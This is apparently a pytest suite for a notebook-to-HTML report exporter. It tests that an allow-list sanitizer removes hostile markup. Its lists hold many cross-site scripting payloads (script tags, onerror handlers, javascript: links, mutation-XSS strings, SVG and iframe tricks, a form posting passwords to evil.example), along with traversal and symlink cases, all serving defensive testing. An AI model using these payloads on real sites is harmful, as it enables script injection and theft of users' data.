"""Hostile HTML in a report: what passes the allow-list is text, lists, tables and pictures."""

from __future__ import annotations

import base64
import itertools
import json
import re
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import nbformat
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from orgkit.cli import main
from orgkit.report import allow_list
from orgkit.report.exporter import Patience, export, markdown, output
from orgkit.terms import ExitCode
from orgkit.views.blocks import Banner, Facts, Note, Picture, StepBar, bundle, join

HTML = "{http://www.w3.org/1999/xhtml}"
FOREIGN = "{http://www.w3.org/"
WAYS = (allow_list.own, allow_list.foreign, allow_list.prose)
FORBIDDEN = [
    *("applet", "audio", "base", "body", "button", "canvas", "dialog", "embed", "form", "frame"),
    *("frameset", "head", "html", "iframe", "input", "keygen", "link", "map", "marquee", "math"),
    *("meta", "noscript", "object", "option", "portal", "script", "select", "slot", "source"),
    *("style", "svg", "template", "textarea", "title", "video", "xmp"),
]

REFRESH = '<meta http-equiv="refresh" content="0; url=https://evil.example/">'
ATTACKS = [
    REFRESH,
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<style>body { background: url(https://evil.example/) }</style>",
    '<div style="background: url(https://evil.example/); position: fixed">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="vbscript:x" ping="https://evil.example" target="_blank" download>x</a>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video src=x poster=https://evil.example></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p id=location name=cookie>x</p>",
    "<plaintext>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml-stylesheet href='https://evil.example/'?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
]
FRAMES = [
    "{}",
    '<div class="orgkit-x">{}</div>',
    '<section class="orgkit-block orgkit-facts"><h3>Facts</h3>{}</section>',
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}</table>",
    "<p>{}",
]


def elements(html: str) -> list[Element]:
    """Parse as a browser would, and list every element."""
    return [e for e in html5lib.parseFragment(html).iter() if isinstance(e.tag, str)][1:]


def problems(html: str) -> list[str]:
    """List what could run, fetch, submit or lead somewhere unknown."""
    found = []
    for element in elements(html):
        name = str(element.tag).removeprefix(HTML)
        if name in FORBIDDEN or name.startswith(FOREIGN):
            found.append(name)
        for attribute, value in element.attrib.items():
            if attribute.startswith("on") or attribute in ("style", "id", "name", "srcdoc", "ping"):
                found.append(attribute)
            if attribute == "href" and not re.match(r"(https?://|mailto:|#)", value):
                found.append(value)
            if attribute == "src" and not value.startswith("data:image/"):
                found.append(value)
    return found


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_hostile_passes(way: Any, frame: str, attack: str) -> None:
    """Each attack in each place, each way: nothing runs, fetches, submits or leads away."""
    html = str(way(frame.replace("{}", attack)))
    assert not problems(html)
    assert "evil.example" not in re.sub(r">[^<]*", ">", html)


PIECES = st.sampled_from([*ATTACKS, *FORBIDDEN, "<", ">", "</", "<!--", "-->", '"', "'", "=", " "])


@given(st.lists(PIECES, max_size=12).map("".join), st.sampled_from(WAYS))
@settings(max_examples=200, deadline=None, derandomize=True)
def test_no_mixture_passes(html: str, way: Any) -> None:
    """Attacks cut and joined in any order come out harmless, and passing twice changes nothing."""
    once = str(way(html))
    assert not problems(once)
    assert str(way(once)) == once


@pytest.mark.parametrize("char", ["\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u200f", "\x00"])
@pytest.mark.parametrize("written", ["{}", "&#x{:x};"])
def test_no_control_character_passes(char: str, written: str) -> None:
    """Control and direction characters become visible, also where they were written as entities."""
    put = written.format(char if written == "{}" else ord(char))
    raw = f"<p title='{put}'>a{put}b</p><td title='{put}'>"
    for way in WAYS:
        assert re.sub(r"[\n\t]", "", str(way(raw))).isprintable()


def test_others_cannot_look_like_orgkit() -> None:
    """U13: a block with orgkit's classes and no mark keeps no class, and is said to be foreign."""
    html = Banner(False, ("o-acme123456",)).strip()
    shown = output({"text/html": str(html)}, {})
    assert "orgkit-banner" not in shown
    assert "Not made by orgkit" in shown
    changed = output({"text/html": str(html) + " "}, bundle(html)[1])
    assert "orgkit-banner" not in changed


@pytest.mark.parametrize(
    "metadata", [None, {}, [], "x", {"text/html": 1}, {"text/html": {"orgkit_block": None}}]
)
def test_a_mark_of_another_kind_is_none(metadata: Any) -> None:
    """Whatever stands in the metadata of an output: it is read, and marks nothing."""
    assert "Not made by orgkit" in output({"text/html": "<p>x</p>"}, metadata)


def test_a_marked_block_passes_the_same_list() -> None:
    """Who writes the file can write the mark too: it gives a look, and nothing else."""
    for attack in ATTACKS:
        assert not problems(output(*bundle(f'<div class="orgkit-x">{attack}</div>')))


BLOCKS = [
    Note("50 % < x & 'y' \"z\""),
    Facts("Facts", {"a": "<b>", "b": 1}),
    StepBar(2),
    Picture("Title", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", "words"),
    join([Note("one", "bad"), Facts("two", {"$x$": None})], "orgkit-group"),
]


@pytest.mark.parametrize("block", BLOCKS, ids=lambda b: type(b).__name__)
def test_our_blocks_come_out_as_they_were(block: Any) -> None:
    """Every element, attribute and text of our own blocks is on the list."""
    before, after = (
        html5lib.serialize(html5lib.parseFragment(h))
        for h in (block.html(), output(*block._repr_mimebundle_()))
    )
    assert before == after


@pytest.mark.parametrize(
    "path", sorted(Path("notebooks").glob("[0-9]*.ipynb")), ids=lambda p: p.stem
)
def test_blocks_of_the_notebooks_come_out_as_they_were(path: Path) -> None:
    """All that the notebooks show stands in their reports as it did, links to notebooks apart."""
    for cell in nbformat.read(path, as_version=4).cells:
        for out in cell.get("outputs", []):
            html = out.get("data", {}).get("text/html", "")
            if not html or "<style>" in html:
                continue
            html = re.sub(r'<a class="orgkit-next" href="\w+\.ipynb">([^<]*)</a>', r"\1", html)
            before, after = (html5lib.parseFragment(h) for h in (html, str(allow_list.own(html))))
            assert html5lib.serialize(before) == html5lib.serialize(after)


def test_marks_stand_in_the_stored_notebooks() -> None:
    """Every block that a notebook of the kit shows is known as ours in its report."""
    for path in sorted(Path("notebooks").glob("[0-9]*.ipynb")):
        assert "Not made by orgkit" not in export(nbformat.read(path, as_version=4))


def svg(inner: str) -> str:
    """A drawing as address of a picture."""
    text = f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{inner}</svg>"
    return "data:image/svg+xml;base64," + base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        "<path d='M0 0' onload='alert(1)'/>",
        "<image href='https://evil.example/'/>",
        "<use xlink:href='https://evil.example/#x'/>",
        "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
        "<style>@import url(https://evil.example/)</style>",
        "<rect fill='url(https://evil.example/)'/>",
        "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
        "<set attributeName='href' to='javascript:x'/>",
        "<text",
    ],
)
def test_a_drawing_that_does_more_than_draw_is_left_out(inner: str) -> None:
    """Drawings are cleared too: nothing that runs or fetches stands in a report."""
    for way in WAYS:
        assert "src=" not in way(f'<img alt="words" src="{svg(inner)}">')


def test_an_entity_bomb_is_no_drawing() -> None:
    """Entities are refused before anything is parsed."""
    assert not allow_list.only_draws(b'<!DOCTYPE svg [<!ENTITY a "x">]><svg>&a;</svg>')


def test_a_drawing_that_draws_passes() -> None:
    """Shapes, text and references inside the drawing are what charts are made of."""
    defined = "<defs><clipPath id='a'><path d='M0 0'/></clipPath></defs>"
    inner = f"{defined}<g clip-path='url(#a)'><use xlink:href='#a'/></g>"
    assert "src=" in allow_list.foreign(f'<img alt="" src="{svg(inner)}">')


def test_tables_and_pictures_of_others_are_shown() -> None:
    """A table of pandas keeps its cells, a picture its pixels, in a frame that says whose it is."""
    html = '<table border="1" class="dataframe"><tr><th>a</th></tr><tr><td>1</td></tr></table>'
    shown = output({"text/html": html + '<img src="data:image/png;base64,AAAA" alt="x">'}, {})
    assert "<th>a</th>" in shown
    assert 'src="data:image/png;base64,AAAA"' in shown
    assert "dataframe" not in shown


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        "[x](data:text/html;base64,AAAA)",
        "<meta http-equiv=refresh content=0>",
        "[x]: //evil.example\n\n[x]",
        "![x](data:text/html,x)",
        "<https://ok.example> and [a](mailto:a@b.example)",
    ],
)
def test_prose_passes_the_list_too(source: str) -> None:
    """Prose of a notebook leads to pages and addresses only, and fetches nothing."""
    assert not problems(markdown(source))


@pytest.mark.parametrize("shape", ["<div>", "<b>", "&", "<table><tr><td>", "<a><p>", "<font {}=1>"])
def test_a_page_that_would_take_for_ever_is_shown_as_text(shape: str) -> None:
    """HTML made to keep a parser busy is not parsed: its plain text stands there."""
    html = "".join(shape.replace("{}", f"a{n}") for n in range(1_200_000 // len(shape)))
    assert output({"text/html": html, "text/plain": "plain"}, {}) == "<pre>plain</pre>"


def test_patience_is_one_for_the_whole_report() -> None:
    """Many outputs that are each just small enough do not add up to a hang."""
    html = "<b>" * 3_000 + "x"
    patience = Patience()
    lasted = list(itertools.takewhile(bool, (patience.lasts(html) for _ in range(1_000))))
    assert 0 < len(lasted) < 10


HEADERS: list[Any] = [
    "x",
    [1],
    {"organization_id": 1},
    {"target": "aws"},
    dict.fromkeys(("organization_id", "caller_arn", "target", "ended", "phase", "outcome"), "x"),
    dict.fromkeys(("organization_id", "caller_arn", "target", "ended", "phase", "outcome"), "x")
    | {"exit_code": 0, "files": {"a": 1}},
    dict.fromkeys(("organization_id", "caller_arn", "target", "ended", "phase", "outcome"), "x")
    | {"exit_code": 0, "files": {"a": "b"}},
]


@pytest.mark.parametrize("header", HEADERS)
def test_a_header_that_says_too_little_is_none(header: Any) -> None:
    """A header of any other form than a saved run's makes no report fail, and claims nothing."""
    data = new_output("display_data", {"text/plain": "x"}, metadata={"orgkit": header})
    page = export(new_notebook(cells=[new_code_cell("", outputs=[data])]))
    assert "This run did not finish" in page


def test_files_named_in_a_header_lead_nowhere_else() -> None:
    """Only plain names of files beside the report become links."""
    names = ["//evil.example/x", "javascript:alert(1)", "../../x", "a.csv", "https://evil.example"]
    header = dict.fromkeys(
        ("organization_id", "caller_arn", "target", "ended", "phase", "outcome"), "x"
    )
    found: Any = header | {
        "exit_code": 0,
        "store": "s",
        "record": ["d"],
        "files": dict.fromkeys(names, "d"),
    }
    data = new_output("display_data", {"text/plain": "x"}, metadata={"orgkit": found})
    page = export(new_notebook(cells=[new_code_cell("", outputs=[data])]))
    assert re.findall(r'href="([^"]*)"', page) == ["a.csv"]


@pytest.mark.parametrize(
    "source", ["x: int = (", "x: int = f()", "x: str = '\\ud800'", "x: int = " + "-" * 5000 + "1"]
)
def test_parameters_that_cannot_be_read_are_said(source: str) -> None:
    """A parameters cell of any content makes a report."""
    cell = new_code_cell(source, metadata={"tags": ["parameters"]})
    assert "arameters" in export(new_notebook(cells=[cell]))


def test_the_attackers_notebook_makes_a_harmless_report(tmp_path: Path) -> None:
    """U13: `orgkit report` of a notebook with a refresh in an orgkit block leaves nowhere."""
    html = f'<div class="orgkit-x">{REFRESH}words</div>'
    data, mark = bundle(html)
    cells = [
        new_markdown_cell("# Title\n\n" + REFRESH),
        new_code_cell("", outputs=[new_output("display_data", {"text/html": html})]),
        new_code_cell("", outputs=[new_output("display_data", data, metadata=mark)]),
    ]
    path = tmp_path / "evil.ipynb"
    nbformat.write(new_notebook(cells=cells), path)
    done = CliRunner().invoke(main, ["report", str(path)])
    assert done.exit_code == 0, done.output
    page = html5lib.parse((tmp_path / "evil.html").read_text(encoding="utf-8"))
    metas = [e.attrib for e in page.iter(f"{HTML}meta")]
    assert [m.get("http-equiv") for m in metas] == [None, "Content-Security-Policy", None]
    assert not list(page.iter(f"{HTML}script"))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"no json",
        b"[]",
        b"{}",
        b"\xff\xfe",
        b"[" * 100_000,
        json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1]}).encode(),
        json.dumps({"nbformat": 99, "nbformat_minor": 0, "metadata": {}, "cells": []}).encode(),
        json.dumps(
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code"}]}
        ).encode(),
    ],
)
def test_a_file_that_is_no_notebook_is_wrong_usage(content: bytes, tmp_path: Path) -> None:
    """Any other file ends with words, not with a traceback."""
    path = tmp_path / "x.ipynb"
    path.write_bytes(content)
    done = CliRunner().invoke(main, ["report", str(path)])
    assert done.exit_code == ExitCode.USAGE, done.output
    assert path.name in done.output


def test_a_link_in_the_place_of_a_report_is_not_followed(tmp_path: Path) -> None:
    """Who may write beside a notebook cannot lead its report into another file."""
    path, other = tmp_path / "x.ipynb", tmp_path / "precious"
    nbformat.write(new_notebook(cells=[new_markdown_cell("# Title")]), path)
    other.write_text("kept", encoding="utf-8")
    (tmp_path / "x.html").symlink_to(other)
    (tmp_path / "y.html").symlink_to(tmp_path / "new")
    for more in ([], ["-o", str(tmp_path / "y.html")]):
        assert CliRunner().invoke(main, ["report", str(path), *more]).exit_code == 0
    assert other.read_text(encoding="utf-8") == "kept"
    assert not (tmp_path / "x.html").is_symlink()
    assert not (tmp_path / "new").exists()
